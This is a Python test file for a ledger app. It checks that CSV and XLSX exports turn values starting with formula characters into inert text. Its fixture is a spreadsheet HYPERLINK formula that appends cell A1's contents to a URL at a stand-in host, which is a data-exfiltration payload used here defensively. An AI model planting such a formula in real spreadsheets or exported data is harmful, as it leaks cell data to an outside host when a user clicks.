"""Exports are safe to open: a name or reference that a spreadsheet would evaluate
(a leading ``=``, ``+``, ``-``, ``@``, tab or carriage return, OWASP's list) comes
out of a CSV export as inert text, and no XLSX cell becomes a formula from data."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

LINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'


def test_a_payee_named_as_a_formula_is_exported_as_text(ledger):
    world = ledger.funded()
    payee = ledger.payee(LINK)
    request = ledger.request(world["fund"]["id"], world["project"]["id"], payee["id"], "50.00")
    ledger.approve(request["id"])
    ledger.disburse(request["id"], "10.00", reference="+1-555-0100")
    url = f"/reports/payee-ledger?fund_id={world['fund']['id']}"

    text = ledger.raw("GET", url + "&format=csv", "auditor").get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    data = [r for r in rows if r["row_type"] == "data"]
    names = {value for r in data for value in r.values()}
    assert "'" + LINK in names and LINK not in names
    assert "'+1-555-0100" in names
    assert not [v for v in names if v and v[0] in "=+@\t\r"]
    # Numbers stay numbers: an amount is not made text.
    assert any(v == "10.00" for v in names)

    xlsx = ledger.raw("GET", url + "&format=xlsx", "auditor").get_data()
    book = load_workbook(io.BytesIO(xlsx))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert LINK in {c.value for c in cells}  # as the text it is
